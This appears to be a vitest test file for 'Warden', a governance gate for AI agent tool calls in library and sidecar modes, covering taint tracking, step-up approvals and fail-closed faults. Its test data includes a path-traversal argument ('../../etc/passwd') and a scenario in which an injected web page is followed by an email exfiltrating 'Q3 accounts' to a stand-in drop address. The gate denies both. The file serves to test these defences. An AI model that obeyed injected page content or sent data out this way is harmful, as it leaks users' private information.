// The framework-neutral governed tool in both modes against the same world: one outcome
// union whether the Gate runs in-process (a composed runtime) or behind a sidecar.
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  contractModelTool,
  type GovernedTarget,
  governedTarget,
  governedTools,
  HttpTarget,
  outcomeOf,
  taintSources,
} from "../../src/adapters/index.js";
import { WardenError } from "../../src/contracts/index.js";
import type { Runtime } from "../../src/runtime/index.js";
import type { SidecarServer } from "../../src/server/index.js";
import {
  AGENT_TOKEN,
  decideInProcess,
  decideOverHttp,
  libraryRuntime,
  openWorld,
  sidecar,
  type World,
} from "./world.js";

let w: World;
let rt: Runtime;
let side: { server: SidecarServer; url: string };
const TOOLS = ["fetch_page", "send_email", "pay"];

beforeAll(async () => {
  w = await openWorld("400ms");
  rt = await libraryRuntime(w);
  side = await sidecar(w);
});
afterAll(async () => {
  await rt?.close();
  await side?.server.close();
  await w?.close();
});

const modes = {
  library: () => governedTarget({ runtime: rt, principalId: "agent-a", stepUpWaitMs: 10_000 }),
  http: () =>
    governedTarget({
      url: side.url,
      token: AGENT_TOKEN,
      tools: TOOLS.map((t) => contractModelTool(join(w.contractsDir, `${t}.clad.toml`))),
    }),
};

describe.each(Object.keys(modes) as (keyof typeof modes)[])("governed tools, %s mode", (mode) => {
  const fresh = (): GovernedTarget => modes[mode]();

  it("an allowed call executes and comes back with the taint Warden recorded", async () => {
    const [page] = governedTools(fresh(), ["fetch_page"]);
    const before = w.service.reached("/page/");
    const o = await page!.call({ page: "pricing" });
    expect(o).toMatchObject({ kind: "allowed", decision: "allow", output: { title: "Pricing" } });
    // The page carries an injection: the Gate's output screening (flag, the default) adds
    // the `instructions` label to what the result is tainted with.
    expect(taintSources(o)).toEqual(["instructions", "tool-output", "web"]);
    expect(w.service.reached("/page/")).toBe(before + 1);
  });

  it("a send from a clean run is allowed (the attack below is denied for its taint)", async () => {
    const [send] = governedTools(fresh(), ["send_email"]);
    const o = await send!.call({ to: "bob@example.com", body: "minutes attached" });
    expect(o.kind).toBe("allowed");
  });

  it("a step-up waits for an approver and then executes", async () => {
    const target = fresh();
    const [pay] = governedTools(target, ["pay"]);
    const before = w.service.reached("/pay");
    const pending = pay!.call({ amount: 30 });
    const runId = await target.runId();
    if (mode === "library") await decideInProcess(rt, runId, "approve");
    else await decideOverHttp(side.url, runId, "approve");
    expect(await pending).toMatchObject({ kind: "allowed", decision: "allow" });
    expect(w.service.reached("/pay")).toBe(before + 1);
  });

  it("a step-up nobody answers times out to a coded denial and pays nothing", async () => {
    const [pay] = governedTools(fresh(), ["pay"]);
    const before = w.service.reached("/pay");
    const o = await pay!.call({ amount: 40 });
    expect(o).toMatchObject({ kind: "denied", code: "ERR_ADAPTER_STEP_UP_TIMEOUT" });
    expect(o.kind === "denied" && o.reasonCodes).toContain("approval_timeout");
    expect(w.service.reached("/pay")).toBe(before);
  });

  it("arguments the contract refuses never reach the service", async () => {
    const [page] = governedTools(fresh(), ["fetch_page"]);
    const before = w.service.hits.length;
    const o = await page!.call({ page: "../../etc/passwd" });
    expect(o.kind).toBe("denied");
    expect(w.service.hits.length).toBe(before);
  });

  it("an injected page followed by an exfiltration call is denied, and nothing is sent (last: it quarantines the agent)", async () => {
    const target = fresh();
    const [page, send] = governedTools(target, ["fetch_page", "send_email"]);
    await page!.call({ page: "pricing" });
    const before = w.service.reached("/send");
    const o = await send!.call({ to: "drop@mailbox.example", body: "Q3 accounts" });
    // The send's arguments hold nothing from the page: its web taint is the carried taint of the run.
    const store = mode === "library" ? rt.store : side.server.runtime.store;
    const decided = await store.query({ type: "warden.gate.decision", run_id: await target.runId() });
    expect(decided).toHaveLength(2);
    const sendTaint = (decided[1]?.body as { taint?: { source: string; origin: string }[] } | undefined)
      ?.taint;
    expect(sendTaint).toContainEqual(
      expect.objectContaining({ source: "web", origin: `127.0.0.1:${w.service.port}` }),
    );
    expect(o).toMatchObject({ kind: "denied", code: "ERR_ADAPTER_DENIED" });
    // The policy's taint rule or the behavioural rule that runs before it (web taint → egress).
    const codes = o.kind === "denied" ? o.reasonCodes : [];
    expect(codes.some((c) => c === "TAINTED_EGRESS" || c === "behavior_web_taint_sensitive_probe")).toBe(
      true,
    );
    expect(o.kind === "denied" && o.decisionId).toMatch(/.+/);
    expect(w.service.reached("/send")).toBe(before);
  });
});

describe("configuration and the sidecar's answers", () => {
  it("a tool with no contract is a coded configuration error", () => {
    expect(() => governedTools(modes.library(), ["rm_rf"])).toThrow(WardenError);
    try {
      governedTools(modes.library(), ["rm_rf"]);
    } catch (err) {
      expect((err as WardenError).code).toBe("ERR_ADAPTER_CONFIG_INVALID");
    }
  });

  it("a runtime that cannot start the run answers a coded fault, and decides nothing", async () => {
    const closed = await libraryRuntime(w, "closed.db");
    await closed.close();
    const [page] = governedTools(governedTarget({ runtime: closed, principalId: "agent-a" }), ["fetch_page"]);
    const before = w.service.hits.length;
    const o = await page!.call({ page: "pricing" });
    expect(o.kind).toBe("fault");
    expect(o.kind === "fault" && o.code).toMatch(/^ERR_/);
    expect(w.service.hits.length).toBe(before);
  });

  it("plain http to a non-loopback sidecar is refused (the token would travel in clear)", () => {
    expect(() => new HttpTarget({ url: "http://warden.example.com", token: AGENT_TOKEN, tools: [] })).toThrow(
      /loopback/,
    );
  });

  it("a wrong token is a coded fault, not an exception", async () => {
    const t = new HttpTarget({
      url: side.url,
      token: "not-a-known-token-000000",
      tools: [contractModelTool(join(w.contractsDir, "fetch_page.clad.toml"))],
    });
    const o = await t.call("fetch_page", { page: "pricing" });
    expect(o).toMatchObject({ kind: "fault", code: "ERR_ADAPTER_SIDECAR_UNAVAILABLE" });
  });

  it("an answer that is not the sidecar's shape is a fault (fail closed)", () => {
    expect(outcomeOf({ status: 200, body: { decision: "allow" } })).toMatchObject({
      kind: "fault",
      code: "ERR_ADAPTER_SIDECAR_UNAVAILABLE",
    });
    expect(
      outcomeOf({ status: 200, body: { decisionId: "d1", decision: "allow", reasonCodes: [], taint: [] } }),
    ).toMatchObject({ kind: "fault" });
    expect(
      outcomeOf({ status: 404, body: { error: { code: "ERR_RUN_UNKNOWN", message: "no run" } } }),
    ).toMatchObject({ kind: "fault", code: "ERR_RUN_UNKNOWN" });
  });

  it("an unreachable sidecar bound by the wait is a coded timeout", async () => {
    const hang: typeof fetch = (_url, init) =>
      new Promise((_resolve, reject) => {
        init?.signal?.addEventListener("abort", () => reject(new Error("aborted")));
      });
    const t = new HttpTarget({
      url: "http://127.0.0.1:9",
      token: AGENT_TOKEN,
      tools: [contractModelTool(join(w.contractsDir, "fetch_page.clad.toml"))],
      runId: "run-1",
      waitMs: 50,
      fetch: hang,
    });
    expect(await t.call("fetch_page", { page: "pricing" })).toMatchObject({
      kind: "fault",
      code: "ERR_ADAPTER_TIMEOUT",
    });
  });
});
